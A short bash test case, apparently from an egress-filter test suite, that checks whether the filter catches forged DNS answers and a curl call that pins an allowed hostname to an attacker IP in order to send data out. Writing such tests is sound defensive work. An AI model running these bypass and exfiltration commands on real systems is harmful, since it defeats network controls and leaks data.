# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
# Who believes any answer that goes to or comes from a port 53 believes the job.
title='A forged answer, sent by the job to the resolver, to the attacker and to loopback' origin='RESEARCH §6, bullfrog'
reason='dns_not_a_query|not_resolved' forms='output forward run'
attack() {
    client sh -c 'for to in 198.18.2.53 198.18.3.66 127.0.0.1; do "$1" "$2" answer $to 53 "$3"; done
        curl -sk --max-time 20 --resolve allowed.test:443:198.18.3.66 "https://allowed.test/$3"' sh "$PYTHON" "$TOOL/dnswire.py" "$1"
}
